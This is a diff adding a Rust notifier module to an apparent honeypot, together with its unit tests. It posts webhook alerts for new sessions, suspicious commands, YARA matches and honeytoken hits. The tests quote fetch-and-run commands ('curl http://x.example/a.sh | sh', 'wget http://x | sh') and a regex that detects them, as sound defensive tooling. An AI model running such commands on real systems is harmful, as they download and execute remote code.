@@ -0,0 +1,453 @@
+//! Webhook notifications for new sessions, suspicious commands, YARA matches and honeytokens.
+//!
+//! The notifier follows the [`events`](crate::events) stream: a `session_started`
+//! event triggers a notification when `on_new_session` is set, and a
+//! `command_executed` event triggers one when the command matches a
+//! `suspicious_commands` pattern. A `rule_matched` event triggers one when
+//! `on_rule_match` is set. A `honeytoken_triggered` event always triggers one,
+//! with a high priority. Sessions are remembered until their `session_ended`
+//! event so that command and rule notifications carry the session metadata.
+//!
+//! Payloads are shaped for Slack (`text`), Discord (`content`) or, by default, a
+//! generic JSON document. Delivery happens on a background task and failures are
+//! only logged.
+
+use std::collections::HashMap;
+use std::io;
+use std::net::SocketAddr;
+use std::sync::OnceLock;
+
+use chrono::{DateTime, Utc};
+use log::{debug, error, info};
+use regex::Regex;
+use serde::Serialize;
+use serde_json::json;
+use tokio::sync::mpsc::{self, Sender};
+use uuid::Uuid;
+
+use crate::configuration::types::{NotificationConfig, WebhookFormat};
+use crate::events::{Event, Priority};
+use crate::http_client::HttpEndpoint;
+
+/// Events waiting to be matched before new ones get dropped
+const QUEUE_SIZE: usize = 256;
+/// Longest command quoted in a notification summary
+const MAX_COMMAND_LEN: usize = 300;
+
+static QUEUE: OnceLock<Sender<Event>> = OnceLock::new();
+
+/// Metadata of a session, as announced by its `session_started` event
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct SessionInfo {
+    pub session_id: Uuid,
+    pub service: String,
+    pub client_addr: SocketAddr,
+    pub container_id: Option<String>,
+    pub started_at: DateTime<Utc>,
+}
+
+/// Why a notification was sent
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Trigger {
+    NewSession,
+    SuspiciousCommand,
+    RuleMatch,
+    Honeytoken,
+}
+
+/// A notification, before being shaped for a webhook
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct Notification {
+    pub trigger: Trigger,
+    pub priority: Priority,
+    pub summary: String,
+    /// `None` for a command of a session started before the notifier
+    pub session: Option<SessionInfo>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub command: Option<String>,
+    /// Pattern the command matched
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub pattern: Option<String>,
+    /// YARA rule that matched
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub rule: Option<String>,
+}
+
+impl Notification {
+    /// Request body for a webhook of the given format
+    pub fn payload(&self, format: WebhookFormat) -> String {
+        match format {
+            WebhookFormat::Generic => serde_json::to_string(self).unwrap_or_default(),
+            WebhookFormat::Slack => json!({ "text": self.headline() }).to_string(),
+            WebhookFormat::Discord => json!({ "content": self.headline() }).to_string(),
+        }
+    }
+
+    /// Summary for chat, flagged when of high priority
+    fn headline(&self) -> String {
+        match self.priority {
+            Priority::High => format!(":rotating_light: {}", self.summary),
+            Priority::Normal => self.summary.clone(),
+        }
+    }
+}
+
+/// Turns events into notifications according to a [`NotificationConfig`]
+pub struct Notifier {
+    on_new_session: bool,
+    on_rule_match: bool,
+    suspicious_commands: Vec<Regex>,
+    sessions: HashMap<Uuid, SessionInfo>,
+}
+
+impl Notifier {
+    /// # Errors
+    /// Returns [`io::ErrorKind::InvalidInput`] when a pattern is not a valid regex.
+    pub fn new(config: &NotificationConfig) -> io::Result<Self> {
+        let suspicious_commands = config
+            .suspicious_commands
+            .iter()
+            .map(|pattern| {
+                Regex::new(pattern).map_err(|e| io::Error::new(io::ErrorKind::InvalidInput, e))
+            })
+            .collect::<io::Result<Vec<_>>>()?;
+
+        Ok(Self {
+            on_new_session: config.on_new_session,
+            on_rule_match: config.on_rule_match,
+            suspicious_commands,
+            sessions: HashMap::new(),
+        })
+    }
+
+    /// Notification warranted by `event`, if any
+    pub fn observe(&mut self, event: &Event) -> Option<Notification> {
+        match event {
+            Event::SessionStarted {
+                session_id,
+                service,
+                client_addr,
+                container_id,
+            } => {
+                let session = SessionInfo {
+                    session_id: *session_id,
+                    service: service.clone(),
+                    client_addr: *client_addr,
+                    container_id: container_id.clone(),
+                    started_at: Utc::now(),
+                };
+                self.sessions.insert(*session_id, session.clone());
+
+                self.on_new_session.then(|| Notification {
+                    trigger: Trigger::NewSession,
+                    priority: Priority::Normal,
+                    summary: format!(
+                        "New {} session from {} (session {})",
+                        service, client_addr, session_id
+                    ),
+                    session: Some(session),
+                    command: None,
+                    pattern: None,
+                    rule: None,
+                })
+            }
+            Event::CommandExecuted {
+                session_id,
+                command,
+                ..
+            } => {
+                let pattern = self
+                    .suspicious_commands
+                    .iter()
+                    .find(|pattern| pattern.is_match(command))?;
+                let session = self.sessions.get(session_id).cloned();
+                let origin = origin(*session_id, &session);
+
+                Some(Notification {
+                    trigger: Trigger::SuspiciousCommand,
+                    priority: Priority::Normal,
+                    summary: format!("Suspicious command in {}: `{}`", origin, truncate(command)),
+                    session,
+                    command: Some(command.clone()),
+                    pattern: Some(pattern.as_str().to_string()),
+                    rule: None,
+                })
+            }
+            Event::RuleMatched {
+                session_id,
+                rule,
+                target,
+                ..
+            } if self.on_rule_match => {
+                let session = self.sessions.get(session_id).cloned();
+                let origin = origin(*session_id, &session);
+
+                Some(Notification {
+                    trigger: Trigger::RuleMatch,
+                    priority: Priority::Normal,
+                    summary: format!("YARA rule {} matched the {} of {}", rule, target, origin),
+                    session,
+                    command: None,
+                    pattern: None,
+                    rule: Some(rule.clone()),
+                })
+            }
+            Event::HoneytokenTriggered {
+                session_id,
+                kind,
+                path,
+                target,
+                planted_session_id,
+                ..
+            } => {
+                let session = self.sessions.get(session_id).cloned();
+                let origin = origin(*session_id, &session);
+                let planted = match planted_session_id {
+                    Some(planted) if planted == session_id => "its container".to_string(),
+                    Some(planted) => format!("session {}", planted),
+                    None => "a container".to_string(),
+                };
+
+                Some(Notification {
+                    trigger: Trigger::Honeytoken,
+                    priority: Priority::High,
+                    summary: format!(
+                        "Honeytoken {} ({}) planted for {} showed up in the {} of {}",
+                        path,
+                        kind.as_str(),
+                        planted,
+                        target,
+                        origin
+                    ),
+                    session,
+                    command: None,
+                    pattern: None,
+                    rule: None,
+                })
+            }
+            Event::SessionEnded { session_id, .. } => {
+                self.sessions.remove(session_id);
+                None
+            }
+            _ => None,
+        }
+    }
+}
+
+/// How a session is named in a summary
+fn origin(session_id: Uuid, session: &Option<SessionInfo>) -> String {
+    match session {
+        Some(s) => format!(
+            "{} session {} from {}",
+            s.service, session_id, s.client_addr
+        ),
+        None => format!("session {}", session_id),
+    }
+}
+
+fn truncate(command: &str) -> String {
+    match command.char_indices().nth(MAX_COMMAND_LEN) {
+        Some((end, _)) => format!("{}…", &command[..end]),
+        None => command.to_string(),
+    }
+}
+
+/// Starts notifying the webhooks of `config`; does nothing when none is configured.
+///
+/// Only the first installed notifier is used for the lifetime of the process.
+///
+/// # Errors
+/// Returns [`io::ErrorKind::InvalidInput`] for a malformed webhook url or pattern.
+pub fn install(config: &NotificationConfig) -> io::Result<()> {
+    if config.webhooks.is_empty() {
+        return Ok(());
+    }
+    let mut notifier = Notifier::new(config)?;
+    let webhooks = config
+        .webhooks
+        .iter()
+        .map(|webhook| Ok((HttpEndpoint::parse(&webhook.url)?, webhook.format)))
+        .collect::<io::Result<Vec<_>>>()?;
+
+    let (tx, mut rx) = mpsc::channel::<Event>(QUEUE_SIZE);
+    if QUEUE.set(tx).is_err() {
+        debug!("Notifier already installed");
+        return Ok(());
+    }
+    info!("Notifying {} webhook(s)", webhooks.len());
+
+    tokio::spawn(async move {
+        while let Some(event) = rx.recv().await {
+            let Some(notification) = notifier.observe(&event) else {
+                continue;
+            };
+            for (endpoint, format) in &webhooks {
+                if let Err(e) = endpoint.post_json(&notification.payload(*format)).await {
+                    error!("Webhook notification failed: {}", e);
+                }
+            }
+        }
+    });
+    Ok(())
+}
+
+/// Hands `event` to the installed notifier, dropped when it falls behind
+pub(crate) fn observe(event: &Event) {
+    if let Some(queue) = QUEUE.get() {
+        if queue.try_send(event.clone()).is_err() {
+            debug!("Notifier is falling behind, dropping event");
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::configuration::types::HoneytokenKind;
+
+    fn notifier(on_new_session: bool) -> Notifier {
+        Notifier::new(&NotificationConfig {
+            on_new_session,
+            suspicious_commands: vec![r"(wget|curl) .*\|\s*sh".to_string()],
+            ..NotificationConfig::default()
+        })
+        .unwrap()
+    }
+
+    fn started(session_id: Uuid) -> Event {
+        Event::SessionStarted {
+            session_id,
+            service: "ssh".to_string(),
+            client_addr: "198.51.100.4:40022".parse().unwrap(),
+            container_id: None,
+        }
+    }
+
+    fn command(session_id: Uuid, command: &str) -> Event {
+        Event::CommandExecuted {
+            session_id,
+            source: "SSH".to_string(),
+            command: command.to_string(),
+        }
+    }
+
+    #[test]
+    fn notifies_new_sessions_when_enabled() {
+        let id = Uuid::new_v4();
+
+        let notification = notifier(true).observe(&started(id)).unwrap();
+        assert_eq!(notification.trigger, Trigger::NewSession);
+        assert!(notification.summary.contains("198.51.100.4:40022"));
+
+        assert!(notifier(false).observe(&started(id)).is_none());
+    }
+
+    #[test]
+    fn suspicious_commands_carry_session_metadata() {
+        let id = Uuid::new_v4();
+        let mut notifier = notifier(false);
+        notifier.observe(&started(id));
+
+        assert!(notifier.observe(&command(id, "ls -la")).is_none());
+
+        let notification = notifier
+            .observe(&command(id, "curl http://x.example/a.sh | sh"))
+            .unwrap();
+        assert_eq!(notification.trigger, Trigger::SuspiciousCommand);
+        assert_eq!(notification.session.as_ref().unwrap().service, "ssh");
+
+        let payload: serde_json::Value =
+            serde_json::from_str(&notification.payload(WebhookFormat::Generic)).unwrap();
+        assert_eq!(payload["trigger"], "suspicious_command");
+        assert_eq!(payload["session"]["client_addr"], "198.51.100.4:40022");
+
+        let slack: serde_json::Value =
+            serde_json::from_str(&notification.payload(WebhookFormat::Slack)).unwrap();
+        assert_eq!(slack["text"], notification.summary);
+
+        // Metadata is forgotten once the session ended
+        notifier.observe(&Event::SessionEnded {
+            session_id: id,
+            service: "ssh".to_string(),
+            client_addr: "198.51.100.4:40022".parse().unwrap(),
+            status: crate::SessionStatus::Completed,
+            bytes_transferred: 0,
+            duration_secs: 1,
+        });
+        let late = notifier
+            .observe(&command(id, "wget http://x | sh"))
+            .unwrap();
+        assert!(late.session.is_none());
+    }
+
+    #[test]
+    fn rule_matches_are_notified_when_enabled() {
+        let id = Uuid::new_v4();
+        let matched = Event::RuleMatched {
+            session_id: id,
+            service: "ssh".to_string(),
+            rule: "mirai_dropper".to_string(),
+            tags: vec!["botnet".to_string()],
+            target: "stdin".to_string(),
+            strings: vec!["$busybox".to_string()],
+        };
+        let mut enabled = notifier(false);
+        enabled.observe(&started(id));
+
+        let notification = enabled.observe(&matched).unwrap();
+        assert_eq!(notification.trigger, Trigger::RuleMatch);
+        assert_eq!(notification.rule.as_deref(), Some("mirai_dropper"));
+        assert!(notification.summary.contains("stdin of ssh session"));
+
+        let mut disabled = Notifier::new(&NotificationConfig {
+            on_rule_match: false,
+            ..NotificationConfig::default()
+        })
+        .unwrap();
+        assert!(disabled.observe(&matched).is_none());
+    }
+
+    #[test]
+    fn honeytokens_are_always_notified_with_high_priority() {
+        let id = Uuid::new_v4();
+        let planted_for = Uuid::new_v4();
+        let mut notifier = Notifier::new(&NotificationConfig {
+            on_new_session: false,
+            on_rule_match: false,
+            ..NotificationConfig::default()
+        })
+        .unwrap();
+        notifier.observe(&started(id));
+
+        let notification = notifier
+            .observe(&Event::HoneytokenTriggered {
+                session_id: id,
+                service: "ssh".to_string(),
+                kind: HoneytokenKind::AwsKey,
+                path: "/root/.aws/credentials".to_string(),
+                target: "client_stream".to_string(),
+                container_id: Some("miel-ssh-1".to_string()),
+                planted_session_id: Some(planted_for),
+            })
+            .unwrap();
+        assert_eq!(notification.trigger, Trigger::Honeytoken);
+        assert_eq!(notification.priority, Priority::High);
+        assert!(notification
+            .summary
+            .contains(&format!("planted for session {}", planted_for)));
+        assert!(notification
+            .summary
+            .contains("client_stream of ssh session"));
+
+        let payload: serde_json::Value =
+            serde_json::from_str(&notification.payload(WebhookFormat::Generic)).unwrap();
+        assert_eq!(payload["priority"], "high");
+        let slack: serde_json::Value =
+            serde_json::from_str(&notification.payload(WebhookFormat::Slack)).unwrap();
+        assert_eq!(
+            slack["text"],
+            format!(":rotating_light: {}", notification.summary)
+        );
+    }
+}